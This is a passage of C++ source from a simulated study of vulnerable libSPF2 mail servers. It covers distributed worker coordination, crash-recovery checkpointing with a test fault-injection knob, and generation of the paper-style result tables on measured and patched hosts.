        forwarded_queries_ += rep.query_count;
        slices[ci] = std::move(rep.slice);
      },
      [&](std::size_t ci, Chunk& c) {
        // Lost slice: outcomes pass through unchanged (still transient).
        auto& slice = slices[ci];
        slice.outcomes.reserve(c.count);
        for (std::size_t k = 0; k < c.count; ++k) {
          slice.outcomes.push_back(items[c.first + k].outcome);
        }
      });
  campaign_ = nullptr;
  return slices;
}

std::vector<longitudinal::Study::ObserveSliceResult> Coordinator::run_observe(
    longitudinal::Study& study,
    std::span<const longitudinal::Study::ObserveJob> jobs,
    const longitudinal::Study::ObserveContext& ctx) {
  if (study_ == nullptr) study_ = &study;
  ensure_spawned();
  auto chunks = plan_chunks(jobs.size(), [&](std::size_t i) {
    return owner_of(cuts_, jobs[i].address);
  });
  const util::SimTime now = fleet_.clock().now();
  for (auto& c : chunks) {
    ObserveReq req;
    req.seq = c.seq;
    req.clock_now = now;
    req.ctx = ctx;
    req.jobs.reserve(c.count);
    for (std::size_t k = 0; k < c.count; ++k) {
      ObserveWireJob wire;
      wire.job = jobs[c.first + k];
      // Ship the coordinator's current patch/blacklist flags: a respawned
      // worker forked before this round's serial pre-pass applies them
      // idempotently and converges on the same host state.
      const mta::MailHost* host = fleet_.find_host(wire.job.address);
      if (host != nullptr) {
        wire.patched = host->is_patched();
        wire.blacklisted = host->blacklisted();
      }
      req.jobs.push_back(wire);
    }
    c.request = encode_observe_req(req);
  }
  std::vector<longitudinal::Study::ObserveSliceResult> slices(chunks.size());
  run_chunks(
      chunks, MsgType::ObserveRep,
      [&](std::size_t ci, Chunk& c, MessageView& view) {
        ObserveRep rep = decode_observe_rep(view);
        if (rep.seq != c.seq) {
          throw ProtocolError("replied to seq " + std::to_string(rep.seq) +
                              " instead of " + std::to_string(c.seq));
        }
        forwarded_queries_ += rep.query_count;
        slices[ci] = std::move(rep.slice);
      },
      [&](std::size_t ci, Chunk& c) {
        slices[ci].results.assign(c.count,
                                  longitudinal::Observation::Inconclusive);
      });
  return slices;
}

std::vector<std::optional<snapshot::StudySnapshot::HostState>>
Coordinator::capture_hosts(const std::vector<util::IpAddress>& addresses) {
  ensure_spawned();
  auto chunks = plan_chunks(addresses.size(), [&](std::size_t i) {
    return owner_of(cuts_, addresses[i]);
  });
  for (auto& c : chunks) {
    CaptureReq req;
    req.seq = c.seq;
    req.addresses.assign(addresses.begin() + c.first,
                         addresses.begin() + c.first + c.count);
    c.request = encode_capture_req(req);
  }
  std::vector<std::optional<snapshot::StudySnapshot::HostState>> hosts(
      addresses.size());
  run_chunks(
      chunks, MsgType::CaptureRep,
      [&](std::size_t, Chunk& c, MessageView& view) {
        CaptureRep rep = decode_capture_rep(view);
        if (rep.seq != c.seq) {
          throw ProtocolError("replied to seq " + std::to_string(rep.seq) +
                              " instead of " + std::to_string(c.seq));
        }
        if (rep.hosts.size() != c.count) {
          throw ProtocolError("returned " + std::to_string(rep.hosts.size()) +
                              " host states for " + std::to_string(c.count) +
                              " addresses");
        }
        for (std::size_t k = 0; k < c.count; ++k) {
          hosts[c.first + k] = std::move(rep.hosts[k]);
        }
      },
      [&](std::size_t, Chunk&) {
        // Lost capture chunk: the positions stay nullopt — the checkpoint
        // simply records no residue for those hosts.
      });
  return hosts;
}

void Coordinator::shutdown() {
  if (forwarded_queries_ > 0 && !queries_reported_) {
    // Informational only (stderr): per-entry DNS logs stay worker-local, so
    // the aggregate count is the visible trace of what was not forwarded.
    // Printed once; shutdown() is idempotent and also runs in the dtor.
    std::fprintf(stderr,
                 "spfail dist: %llu DNS query-log entries stayed "
                 "worker-local (aggregate count only; DESIGN.md section 15)\n",
                 static_cast<unsigned long long>(forwarded_queries_));
    queries_reported_ = true;
  }
  for (std::size_t w = 0; w < slots_.size(); ++w) {
    WorkerSlot& slot = slots_[w];
    if (slot.pid >= 0) {
      try {
        parent_channel(w).send(encode_shutdown());
      } catch (const ProtocolError&) {
        // Already dead; the reap below handles it.
      }
      close_fd(slot.to_child);
      close_fd(slot.from_child);
      ::waitpid(slot.pid, nullptr, 0);
      slot.pid = -1;
    }
    close_fd(slot.to_child);
    close_fd(slot.from_child);
    const std::string path = worker_checkpoint_path(w);
    if (!path.empty()) {
      std::remove(path.c_str());
      std::remove((path + ".tmp").c_str());
    }
  }
}

DistReport Coordinator::report() const {
  DistReport report;
  report.workers.reserve(slots_.size());
  for (const auto& slot : slots_) {
    report.workers.push_back(
        {slot.restarts, slot.abandoned, slot.items_lost});
  }
  return report;
}

}  // namespace spfail::dist
