// Worker side of the distributed scan (DESIGN.md §15).
//
// A worker is a forked copy of the coordinator: it inherits the fleet, the
// campaign and the study by copy-on-write, and serves slice requests over
// its pipe pair until EOF or a Shutdown frame. Probe residues (greylist
// first-contact maps, flaky-RNG cursors) accumulate only here — the
// coordinator's copies stay pristine — so after each executed chunk the
// worker checkpoints the cumulative residue of every host it ever touched,
// together with the encoded reply, before sending it. A respawned worker
// restores that checkpoint and, when the resent request carries the
// checkpointed sequence number, replays the stored reply instead of
// executing twice: exactly-once chunk execution across crashes.
#include <unistd.h>

#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <map>
#include <set>
#include <string>
#include <vector>

#include "dist/coordinator.hpp"
#include "mta/host.hpp"
#include "snapshot/fields.hpp"
#include "snapshot/snapshot.hpp"
#include "util/thread_pool.hpp"

namespace spfail::dist {

namespace {

// SPFAIL_DIST_TEST_KILL="<worker>:<seq>:<mode>" arms a one-shot fault for
// crash-recovery tests: the named worker misbehaves at the first request
// whose sequence number reaches <seq>. Modes:
//   kill      execute + checkpoint, exit before sending the reply
//   sent      execute + checkpoint + send, then exit
//   stall     never reply (exercises the reply deadline)
//   tmpcrash  execute, leave a garbage checkpoint .tmp behind, exit without
//             completing the checkpoint
//   crashloop exit on sight, every generation (exhausts the restart budget)
// All modes except crashloop fire only in generation 0, so the respawned
// worker recovers cleanly.
struct KillKnob {
  enum class Mode { None, Kill, Sent, Stall, Tmpcrash, Crashloop };
  Mode mode = Mode::None;
  std::size_t worker = 0;
  std::uint64_t seq = 0;
};

KillKnob parse_kill_knob() {
  KillKnob knob;
  const char* raw = std::getenv("SPFAIL_DIST_TEST_KILL");
  if (raw == nullptr || *raw == '\0') return knob;
  const std::string text(raw);
  const std::size_t a = text.find(':');
  const std::size_t b = a == std::string::npos ? a : text.find(':', a + 1);
  if (a == std::string::npos || b == std::string::npos) return knob;
  try {
    knob.worker = static_cast<std::size_t>(std::stoul(text.substr(0, a)));
    knob.seq = std::stoull(text.substr(a + 1, b - a - 1));
  } catch (const std::exception&) {
    return knob;
  }
  const std::string mode = text.substr(b + 1);
  if (mode == "kill") {
    knob.mode = KillKnob::Mode::Kill;
  } else if (mode == "sent") {
    knob.mode = KillKnob::Mode::Sent;
  } else if (mode == "stall") {
    knob.mode = KillKnob::Mode::Stall;
  } else if (mode == "tmpcrash") {
    knob.mode = KillKnob::Mode::Tmpcrash;
  } else if (mode == "crashloop") {
    knob.mode = KillKnob::Mode::Crashloop;
  }
  return knob;
}

constexpr std::uint32_t kWorkerCheckpointMagic = 0x53504657;  // "SPFW"

struct WorkerState {
  std::uint64_t last_seq = 0;  // 0 = nothing executed yet (seqs start at 1)
  std::string last_reply;
  // Every address this worker ever probed; the checkpoint snapshots their
  // cumulative residue so a respawn restores the full history, not just the
  // last chunk's.
  std::set<util::IpAddress> touched;
};

void write_checkpoint(const std::string& path, std::uint64_t nonce,
                      std::size_t index, const WorkerState& state,
                      population::Fleet& fleet) {
  if (path.empty()) return;
  snapshot::Writer w;
  w.u32(kWorkerCheckpointMagic);
  w.u64(nonce);
  w.u32(static_cast<std::uint32_t>(index));
  w.u64(state.last_seq);
  w.str(state.last_reply);
  std::vector<snapshot::StudySnapshot::HostState> hosts;
  hosts.reserve(state.touched.size());
  for (const auto& address : state.touched) {
    const mta::MailHost* host = fleet.find_host(address);
    if (host != nullptr) {
      hosts.push_back(snapshot::capture_host_state(address, *host));
    }
  }
  w.u64(hosts.size());
  for (const auto& hs : hosts) snapshot::put_host_state(w, hs);
  w.u64(snapshot::payload_checksum(w.bytes()));
  const std::string bytes = w.take();
  snapshot::save_atomically(path, bytes);
}

bool load_checkpoint(const std::string& path, std::uint64_t nonce,
                     std::size_t index, WorkerState& state,
                     population::Fleet& fleet) {
  std::string bytes;
  try {
    bytes = snapshot::load_file(path);
  } catch (const snapshot::SnapshotError&) {
    return false;  // no checkpoint yet — first crash before any chunk
  }
  try {
    if (bytes.size() < 8) return false;
    const std::string_view view(bytes);
    snapshot::Reader tail(view.substr(bytes.size() - 8));
    if (tail.u64() !=
        snapshot::payload_checksum(view.substr(0, bytes.size() - 8))) {
      return false;
    }
    snapshot::Reader body(view.substr(0, bytes.size() - 8));
    if (body.u32() != kWorkerCheckpointMagic) return false;
    if (body.u64() != nonce) return false;  // stale file from another run
    if (body.u32() != static_cast<std::uint32_t>(index)) return false;
    state.last_seq = body.u64();
    state.last_reply = std::string(body.str());
    const std::uint64_t n = body.u64();
    for (std::uint64_t i = 0; i < n; ++i) {
      const auto hs = snapshot::get_host_state(body);
      mta::MailHost* host = fleet.find_host(hs.address);
      if (host == nullptr) continue;
      std::map<util::IpAddress, util::SimTime> greylist;
      for (const auto& [client_text, first_seen] : hs.greylist_seen) {
        const auto client = util::IpAddress::parse(client_text);
        if (client.has_value()) greylist.emplace(*client, first_seen);
      }
      host->set_greylist_seen(std::move(greylist));
      host->set_flaky_rng_state(hs.flaky_rng);
      state.touched.insert(hs.address);
    }
    body.expect_done();
  } catch (const snapshot::SnapshotError&) {
    state = WorkerState{};
    return false;
  }
  return true;
}

[[noreturn]] void die(std::size_t index, const char* what) {
  std::fprintf(stderr, "spfail dist worker %zu: %s\n", index, what);
  std::fflush(nullptr);
  _exit(70);
}

}  // namespace

void worker_main(Coordinator& coordinator, std::size_t index,
                 std::uint32_t generation) {
  Channel channel = coordinator.worker_channel(index);
  population::Fleet& fleet = coordinator.fleet();
  const std::string ckpt_path = coordinator.config().checkpoint_stem.empty()
                                    ? std::string()
                                    : coordinator.config().checkpoint_stem +
                                          ".w" + std::to_string(index);
  const KillKnob knob = parse_kill_knob();

  // Worker-local scheduler pool, created strictly after the fork (the
  // coordinator process keeps no pool alive across fork, DESIGN.md §16).
  // Slices execute through the same batch scheduler as the in-process path,
  // so dist and local runs share one execution story.
  util::ThreadPool pool(1);

  WorkerState state;
  if (!ckpt_path.empty()) {
    // A predecessor killed mid-checkpoint leaves a garbage .tmp behind; the
    // complete file — when present — is the last finished chunk.
    snapshot::discard_partial(ckpt_path);
    if (generation > 0) {
      load_checkpoint(ckpt_path, coordinator.nonce(), index, state, fleet);
    }
  }

  try {
    channel.send(encode_hello(HelloMsg{static_cast<std::uint32_t>(index),
                                       generation,
                                       static_cast<std::int64_t>(::getpid())}));
    std::string frame;
    while (channel.receive(frame)) {
      MessageView header(frame);
      if (header.type() == MsgType::Shutdown) break;

      // Every work request leads with its sequence number; peek it for the
      // replay check before the type-specific decode consumes the body.
      std::uint64_t seq = 0;
      switch (header.type()) {
        case MsgType::WaveReq:
        case MsgType::RequeueReq:
        case MsgType::ObserveReq:
        case MsgType::CaptureReq:
          seq = header.body().u64();
          break;
        default:
          die(index, ("unexpected " + to_string(header.type())).c_str());
      }

      const bool knob_fires =
          knob.mode != KillKnob::Mode::None && knob.worker == index &&
          seq >= knob.seq &&
          (knob.mode == KillKnob::Mode::Crashloop || generation == 0);
      if (knob_fires && knob.mode == KillKnob::Mode::Crashloop) _exit(31);
      if (knob_fires && knob.mode == KillKnob::Mode::Stall) {
        for (;;) ::pause();
      }

      if (seq == state.last_seq) {
        // The coordinator resent the chunk we completed right before dying:
        // replay the stored reply, never execute twice.
        channel.send(state.last_reply);
        continue;
      }
      if (seq < state.last_seq) {
        die(index, "request sequence ran backwards");
      }

      MessageView view(frame);
      std::string reply;
      bool checkpoint = true;
      switch (view.type()) {
        case MsgType::WaveReq: {
          WaveReq req = decode_wave_req(view);
          fleet.clock().advance_to(req.clock_now);
          scan::Campaign* campaign = coordinator.campaign();
          if (campaign == nullptr) die(index, "wave request with no campaign");
          WaveRep rep;
          rep.seq = req.seq;
          rep.slice = campaign->run_wave_slice_scheduled(
              std::span<const scan::WaveItem>(req.items), req.base, req.ctx,
              pool);
          rep.query_count = rep.slice.log.size();
          for (const auto& item : req.items) state.touched.insert(item.address);
          reply = encode_wave_rep(rep);
          break;
        }
        case MsgType::RequeueReq: {
          RequeueReq req = decode_requeue_req(view);
          fleet.clock().advance_to(req.clock_now);
          scan::Campaign* campaign = coordinator.campaign();
          if (campaign == nullptr) {
            die(index, "re-queue request with no campaign");
          }
          RequeueRep rep;
          rep.seq = req.seq;
          rep.slice = campaign->run_requeue_slice_scheduled(
              std::span<const scan::RequeueItem>(req.items), req.ctx, pool);
          rep.query_count = rep.slice.log.size();
          for (const auto& item : req.items) {
            state.touched.insert(item.item.address);
          }
          reply = encode_requeue_rep(rep);
          break;
        }
        case MsgType::ObserveReq: {
          ObserveReq req = decode_observe_req(view);
          fleet.clock().advance_to(req.clock_now);
          longitudinal::Study* study = coordinator.study();
          if (study == nullptr) die(index, "observe request with no study");
          // Converge on the coordinator's serial pre-pass: a respawned
          // worker was forked before this round's patch/blacklist events.
          std::vector<longitudinal::Study::ObserveJob> jobs;
          jobs.reserve(req.jobs.size());
          for (const auto& wire : req.jobs) {
            mta::MailHost* host = fleet.find_host(wire.job.address);
            if (host != nullptr) {
              if (wire.patched && !host->is_patched()) host->apply_patch();
              host->set_blacklisted(wire.blacklisted);
            }
            jobs.push_back(wire.job);
          }
          ObserveRep rep;
          rep.seq = req.seq;
          rep.slice = study->run_observe_slice_scheduled(
              std::span<const longitudinal::Study::ObserveJob>(jobs), req.ctx,
              pool);
          rep.query_count = rep.slice.log.size();
          for (const auto& job : jobs) state.touched.insert(job.address);
          reply = encode_observe_rep(rep);
          break;
        }
        case MsgType::CaptureReq: {
          CaptureReq req = decode_capture_req(view);
          CaptureRep rep;
          rep.seq = req.seq;
          rep.hosts.reserve(req.addresses.size());
          for (const auto& address : req.addresses) {
            const mta::MailHost* host = fleet.find_host(address);
            if (host != nullptr) {
              rep.hosts.emplace_back(
                  snapshot::capture_host_state(address, *host));
            } else {
              rep.hosts.emplace_back(std::nullopt);
            }
          }
          reply = encode_capture_rep(rep);
          // Read-only; re-executing a capture after a crash is harmless, so
          // skip the checkpoint write.
          checkpoint = false;
          break;
        }
        default:
          die(index, "unreachable");
      }

      state.last_seq = seq;
      state.last_reply = reply;
      if (knob_fires && knob.mode == KillKnob::Mode::Tmpcrash) {
        std::ofstream garbage(ckpt_path + ".tmp", std::ios::binary);
        garbage << "garbage left by a worker killed mid-checkpoint";
        garbage.close();
        _exit(32);
      }
      if (checkpoint) {
        write_checkpoint(ckpt_path, coordinator.nonce(), index, state, fleet);
      }
      if (knob_fires && knob.mode == KillKnob::Mode::Kill) _exit(33);
      channel.send(reply);
      if (knob_fires && knob.mode == KillKnob::Mode::Sent) _exit(34);
    }
  } catch (const std::exception& e) {
    die(index, e.what());
  }
  std::fflush(nullptr);
  _exit(0);
}

}  // namespace spfail::dist
