#include "report/tables.hpp"

#include <algorithm>
#include <array>
#include <limits>
#include <map>
#include <set>
#include <span>
#include <string_view>
#include <utility>

#include "longitudinal/pkgmgr.hpp"
#include "population/paper_constants.hpp"
#include "util/stats.hpp"
#include "util/strings.hpp"

namespace spfail::report {

namespace {

using longitudinal::Cohort;
using population::DomainRecord;
using population::Fleet;
using scan::AddressOutcome;
using scan::AddressVerdict;
using scan::CampaignReport;
using scan::ProbeStatus;
using util::Align;
using util::percent;
using util::TextTable;
using util::with_commas;

bool domain_in(const DomainRecord& d, Cohort cohort) {
  return longitudinal::Study::in_cohort(d, cohort);
}

// ----------------------------------------------------------------- Table 1

TextTable table1_overlap_impl(const Fleet& fleet) {
  const std::array<std::string, 3> names = {"2-Week MX", "Alexa 1000",
                                            "Alexa Top List"};
  const std::array<Cohort, 3> sets = {Cohort::TwoWeekMx, Cohort::Alexa1000,
                                      Cohort::AlexaTopList};
  std::array<std::array<std::size_t, 3>, 3> counts{};
  for (const auto& d : fleet.domains()) {
    for (std::size_t row = 0; row < 3; ++row) {
      if (!domain_in(d, sets[row])) continue;
      for (std::size_t col = 0; col < 3; ++col) {
        counts[row][col] += domain_in(d, sets[col]);
      }
    }
  }

  TextTable table({"Domain Set", "2-Week MX", "Alexa 1000", "Alexa Top List"},
                  {Align::Left, Align::Right, Align::Right, Align::Right});
  for (std::size_t row = 0; row < 3; ++row) {
    std::vector<std::string> cells = {names[row]};
    for (std::size_t col = 0; col < 3; ++col) {
      cells.push_back(with_commas(static_cast<long long>(counts[row][col])) +
                      " (" +
                      percent(static_cast<long long>(counts[row][col]),
                              static_cast<long long>(counts[row][row]), 1) +
                      ")");
    }
    table.add_row(std::move(cells));
  }
  return table;
}

// ----------------------------------------------------------------- funnel

struct Funnel {
  std::size_t total = 0;
  std::size_t refused = 0;
  std::size_t nomsg_tested = 0;
  std::size_t nomsg_failure = 0;
  std::size_t nomsg_measured = 0;
  std::size_t nomsg_not_measured = 0;
  std::size_t blank_tested = 0;
  std::size_t blank_failure = 0;
  std::size_t blank_measured = 0;
  std::size_t blank_not_measured = 0;
  std::size_t total_measured = 0;
};

void accumulate_address(Funnel& f, const AddressOutcome& outcome) {
  ++f.total;
  if (outcome.verdict == AddressVerdict::Refused &&
      !outcome.nomsg.has_value()) {
    ++f.refused;
    return;
  }
  if (outcome.nomsg.has_value() &&
      outcome.nomsg->status == ProbeStatus::ConnectionRefused) {
    ++f.refused;
    return;
  }
  ++f.nomsg_tested;
  if (outcome.nomsg.has_value()) {
    switch (outcome.nomsg->status) {
      case ProbeStatus::SpfMeasured:
        ++f.nomsg_measured;
        break;
      case ProbeStatus::SpfNotMeasured:
        ++f.nomsg_not_measured;
        break;
      default:
        ++f.nomsg_failure;
        break;
    }
  }
  if (outcome.blankmsg.has_value()) {
    ++f.blank_tested;
    switch (outcome.blankmsg->status) {
      case ProbeStatus::SpfMeasured:
        ++f.blank_measured;
        break;
      case ProbeStatus::SpfNotMeasured:
        ++f.blank_not_measured;
        break;
      default:
        ++f.blank_failure;
        break;
    }
  }
  if (outcome.verdict == AddressVerdict::Measured) ++f.total_measured;
}

// Domain-level funnel: a domain inherits the most advanced stage any of its
// addresses reached.
void accumulate_domain(Funnel& f, const CampaignReport& report,
                       std::span<const util::IpAddress> addresses) {
  ++f.total;
  bool any_connected = false, nomsg_measured = false, nomsg_none = false,
       blank_tried = false, blank_measured = false, blank_none = false,
       measured = false;
  for (const auto& address : addresses) {
    const auto it = report.addresses.find(address);
    if (it == report.addresses.end()) continue;
    const AddressOutcome& outcome = it->second;
    if (outcome.nomsg.has_value() &&
        outcome.nomsg->status != ProbeStatus::ConnectionRefused) {
      any_connected = true;
      if (outcome.nomsg->status == ProbeStatus::SpfMeasured) {
        nomsg_measured = true;
      }
      if (outcome.nomsg->status == ProbeStatus::SpfNotMeasured) {
        nomsg_none = true;
      }
    }
    if (outcome.blankmsg.has_value()) {
      blank_tried = true;
      if (outcome.blankmsg->status == ProbeStatus::SpfMeasured) {
        blank_measured = true;
      }
      if (outcome.blankmsg->status == ProbeStatus::SpfNotMeasured) {
        blank_none = true;
      }
    }
    if (outcome.verdict == AddressVerdict::Measured) measured = true;
  }
  if (!any_connected) {
    ++f.refused;
    return;
  }
  ++f.nomsg_tested;
  if (nomsg_measured) {
    ++f.nomsg_measured;
  } else if (nomsg_none) {
    ++f.nomsg_not_measured;
  } else {
    ++f.nomsg_failure;
  }
  if (blank_tried) {
    ++f.blank_tested;
    if (blank_measured) {
      ++f.blank_measured;
    } else if (blank_none) {
      ++f.blank_not_measured;
    } else {
      ++f.blank_failure;
    }
  }
  if (measured) ++f.total_measured;
}

}  // namespace

TextTable table1_overlap(const Fleet& fleet) { return table1_overlap_impl(fleet); }

TextTable table2_tlds(const Fleet& fleet) {
  // Keyed by the fleet's interned TLD views (stable for the fleet's
  // lifetime); lexical map order is unchanged from the old string keys.
  std::map<std::string_view, std::size_t> alexa, mx;
  for (const auto& d : fleet.domains()) {
    if (d.in_alexa) ++alexa[d.tld];
    if (d.in_mx) ++mx[d.tld];
  }
  const auto top15 = [](const std::map<std::string_view, std::size_t>& counts) {
    std::vector<std::pair<std::string_view, std::size_t>> sorted(
        counts.begin(), counts.end());
    std::sort(sorted.begin(), sorted.end(), [](const auto& a, const auto& b) {
      return a.second > b.second;
    });
    sorted.resize(std::min<std::size_t>(15, sorted.size()));
    return sorted;
  };
  const auto alexa_top = top15(alexa);
  const auto mx_top = top15(mx);

  TextTable table({"Alexa TLD", "Count", "2-Week MX TLD", "Count"},
                  {Align::Left, Align::Right, Align::Left, Align::Right});
  for (std::size_t i = 0; i < 15; ++i) {
    std::vector<std::string> cells(4);
    if (i < alexa_top.size()) {
      cells[0] = std::string(alexa_top[i].first);
      cells[1] = with_commas(static_cast<long long>(alexa_top[i].second));
    }
    if (i < mx_top.size()) {
      cells[2] = std::string(mx_top[i].first);
      cells[3] = with_commas(static_cast<long long>(mx_top[i].second));
    }
    table.add_row(std::move(cells));
  }
  return table;
}

TextTable table3_outcomes(const Fleet& fleet, const CampaignReport& initial) {
  // Column layout: Alexa domains/addresses, 2-Week MX domains/addresses,
  // Top-Provider domains.
  Funnel alexa_domains, alexa_addresses, mx_domains, mx_addresses, providers;

  for (std::size_t i = 0; i < fleet.domains().size(); ++i) {
    const DomainRecord& d = fleet.domains()[i];
    if (d.in_alexa) accumulate_domain(alexa_domains, initial, d.addresses);
    if (d.in_mx) accumulate_domain(mx_domains, initial, d.addresses);
    if (d.is_top_provider) accumulate_domain(providers, initial, d.addresses);
  }
  for (const auto* outcome : initial.sorted_outcomes()) {
    const auto& info = fleet.info(outcome->address);
    if (info.in_alexa_set) accumulate_address(alexa_addresses, *outcome);
    if (info.in_mx_set) accumulate_address(mx_addresses, *outcome);
  }

  TextTable table(
      {"", "Alexa Domains", "Alexa Addresses", "MX Domains", "MX Addresses",
       "Provider Domains"},
      {Align::Left, Align::Right, Align::Right, Align::Right, Align::Right,
       Align::Right});

  const std::array<const Funnel*, 5> funnels = {
      &alexa_domains, &alexa_addresses, &mx_domains, &mx_addresses, &providers};
  const auto row = [&](const std::string& label, auto member,
                       auto denominator) {
    std::vector<std::string> cells = {label};
    for (const Funnel* f : funnels) {
      const auto value = static_cast<long long>(f->*member);
      const auto denom = static_cast<long long>(f->*denominator);
      cells.push_back(with_commas(value) + " (" + percent(value, denom) + ")");
    }
    table.add_row(std::move(cells));
  };

  row("Total Tested", &Funnel::total, &Funnel::total);
  row("Connection Refused", &Funnel::refused, &Funnel::total);
  row("NoMsg Test", &Funnel::nomsg_tested, &Funnel::total);
  row("  SMTP Failure", &Funnel::nomsg_failure, &Funnel::nomsg_tested);
  row("  SPF Measured", &Funnel::nomsg_measured, &Funnel::nomsg_tested);
  row("  SPF Not Measured", &Funnel::nomsg_not_measured, &Funnel::nomsg_tested);
  row("BlankMsg Test", &Funnel::blank_tested, &Funnel::total);
  row("  SMTP Failure", &Funnel::blank_failure, &Funnel::blank_tested);
  row("  SPF Measured", &Funnel::blank_measured, &Funnel::blank_tested);
  row("  SPF Not Measured", &Funnel::blank_not_measured, &Funnel::blank_tested);
  table.add_rule();
  row("Total SPF Measured", &Funnel::total_measured, &Funnel::total);
  return table;
}

TextTable table4_breakdown(const Fleet& fleet, const CampaignReport& initial) {
  struct Breakdown {
    std::size_t measured = 0;
    std::size_t vulnerable = 0;
    std::size_t erroneous = 0;  // non-vulnerable erroneous
    std::size_t compliant = 0;
  };
  Breakdown alexa, mx, combined;

  const auto tally = [](Breakdown& b, const AddressOutcome& outcome) {
    if (!outcome.conclusive()) return;
    ++b.measured;
    if (outcome.vulnerable()) {
      ++b.vulnerable;
    } else if (outcome.erroneous_but_not_vulnerable()) {
      ++b.erroneous;
    } else {
      ++b.compliant;
    }
  };
  for (const auto* outcome : initial.sorted_outcomes()) {
    const auto& info = fleet.info(outcome->address);
    if (info.in_alexa_set) tally(alexa, *outcome);
    if (info.in_mx_set) tally(mx, *outcome);
    tally(combined, *outcome);
  }

  TextTable table({"IP Addresses", "Alexa Top List", "2-Week MX", "Combined"},
                  {Align::Left, Align::Right, Align::Right, Align::Right});
  const auto row = [&](const std::string& label, auto member) {
    std::vector<std::string> cells = {label};
    for (const Breakdown* b : {&alexa, &mx, &combined}) {
      const auto value = static_cast<long long>(b->*member);
      cells.push_back(with_commas(value) + " (" +
                      percent(value, static_cast<long long>(b->measured)) +
                      ")");
    }
    table.add_row(std::move(cells));
  };
  row("SPF Measured", &Breakdown::measured);
  row("Vulnerable libSPF2", &Breakdown::vulnerable);
  row("Erroneous (not vulnerable)", &Breakdown::erroneous);
  row("RFC-compliant", &Breakdown::compliant);
  return table;
}

TextTable table5_tld_patch(const Fleet& fleet,
                           const longitudinal::StudyReport& study) {
  struct TldPatch {
    std::size_t vulnerable = 0;
    std::size_t patched = 0;
  };
  std::map<std::string_view, TldPatch> by_tld;
  for (const auto& track : study.tracks) {
    const DomainRecord& d = fleet.domains()[track.domain_index];
    auto& entry = by_tld[d.tld];
    ++entry.vulnerable;
    entry.patched += track.final_status == longitudinal::FinalStatus::Patched;
  }

  // The paper's threshold: TLDs with >= 50 initially vulnerable domains
  // (scaled down with the fleet).
  const std::size_t threshold = std::max<std::size_t>(
      3, static_cast<std::size_t>(50 * fleet.config().scale));
  std::vector<std::pair<std::string_view, TldPatch>> eligible;
  for (const auto& [tld, entry] : by_tld) {
    if (entry.vulnerable >= threshold) eligible.emplace_back(tld, entry);
  }
  std::sort(eligible.begin(), eligible.end(),
            [](const auto& a, const auto& b) {
              const double ra = static_cast<double>(a.second.patched) /
                                static_cast<double>(a.second.vulnerable);
              const double rb = static_cast<double>(b.second.patched) /
                                static_cast<double>(b.second.vulnerable);
              return ra > rb;
            });

  TextTable table({"TLD", "# Patched", "# Initially Vulnerable", "% Patched"},
                  {Align::Left, Align::Right, Align::Right, Align::Right});
  const auto add = [&](const std::pair<std::string_view, TldPatch>& entry) {
    table.add_row({"." + std::string(entry.first),
                   with_commas(static_cast<long long>(entry.second.patched)),
                   with_commas(static_cast<long long>(entry.second.vulnerable)),
                   percent(static_cast<long long>(entry.second.patched),
                           static_cast<long long>(entry.second.vulnerable))});
  };
  const std::size_t n = eligible.size();
  for (std::size_t i = 0; i < std::min<std::size_t>(5, n); ++i) add(eligible[i]);
  if (n > 10) table.add_rule();
  for (std::size_t i = n > 10 ? n - 5 : std::min<std::size_t>(5, n); i < n; ++i) {
    add(eligible[i]);
  }
  return table;
}

TextTable table6_pkgmgr() {
  TextTable table({"Package Manager", "CVE-2021-20314", "CVE-2021-33912/13"},
                  {Align::Left, Align::Right, Align::Right});
  for (const auto& record : longitudinal::package_manager_table()) {
    table.add_row({std::string(record.name),
                   longitudinal::patch_latency_cell(record, false),
                   longitudinal::patch_latency_cell(record, true)});
  }
  return table;
}

TextTable table7_behaviors(const Fleet& fleet, const CampaignReport& initial) {
  (void)fleet;
  std::map<spfvuln::SpfBehavior, std::size_t> counts;
  std::size_t measured = 0, multi = 0;
  for (const auto* outcome : initial.sorted_outcomes()) {
    if (!outcome->conclusive()) continue;
    ++measured;
    for (const auto behavior : outcome->behaviors) ++counts[behavior];
    if (outcome->behaviors.size() >= 2) ++multi;
  }

  TextTable table({"Behavior", "IP Addresses", "% of Measured"},
                  {Align::Left, Align::Right, Align::Right});
  for (const auto behavior :
       {spfvuln::SpfBehavior::RfcCompliant,
        spfvuln::SpfBehavior::VulnerableLibspf2,
        spfvuln::SpfBehavior::NoExpansion, spfvuln::SpfBehavior::NoTruncation,
        spfvuln::SpfBehavior::NoReversal, spfvuln::SpfBehavior::NoTransformers,
        spfvuln::SpfBehavior::OtherErroneous}) {
    const auto count = static_cast<long long>(counts[behavior]);
    table.add_row({to_string(behavior), with_commas(count),
                   percent(count, static_cast<long long>(measured), 1)});
  }
  table.add_rule();
  table.add_row({"Multiple expansion patterns",
                 with_commas(static_cast<long long>(multi)),
                 percent(static_cast<long long>(multi),
                         static_cast<long long>(measured), 1)});
  table.add_row({"Total measured", with_commas(static_cast<long long>(measured)),
                 "100%"});
  return table;
}

TextTable fig2_final_distribution(const Fleet& fleet,
                                  const longitudinal::StudyReport& study) {
  TextTable table({"Cohort", "Patched", "Vulnerable", "Unknown", "Total"},
                  {Align::Left, Align::Right, Align::Right, Align::Right,
                   Align::Right});
  for (const Cohort cohort : {Cohort::All, Cohort::AlexaTopList,
                              Cohort::Alexa1000, Cohort::TwoWeekMx}) {
    std::size_t patched = 0, vulnerable = 0, unknown = 0;
    for (const auto& track : study.tracks) {
      if (!domain_in(fleet.domains()[track.domain_index], cohort)) continue;
      switch (track.final_status) {
        case longitudinal::FinalStatus::Patched:
          ++patched;
          break;
        case longitudinal::FinalStatus::Vulnerable:
          ++vulnerable;
          break;
        case longitudinal::FinalStatus::Unknown:
          ++unknown;
          break;
      }
    }
    const long long total = static_cast<long long>(patched + vulnerable + unknown);
    table.add_row({to_string(cohort),
                   with_commas(static_cast<long long>(patched)) + " (" +
                       percent(static_cast<long long>(patched), total) + ")",
                   with_commas(static_cast<long long>(vulnerable)) + " (" +
                       percent(static_cast<long long>(vulnerable), total) + ")",
                   with_commas(static_cast<long long>(unknown)) + " (" +
                       percent(static_cast<long long>(unknown), total) + ")",
                   with_commas(total)});
  }
  return table;
}

TextTable fig3_geography(const Fleet& fleet,
                         const longitudinal::StudyReport& study) {
  struct RegionStats {
    std::size_t vulnerable = 0;
    std::size_t patched = 0;
  };
  std::map<std::string, RegionStats> regions;
  std::set<util::IpAddress> seen;
  for (const auto& track : study.tracks) {
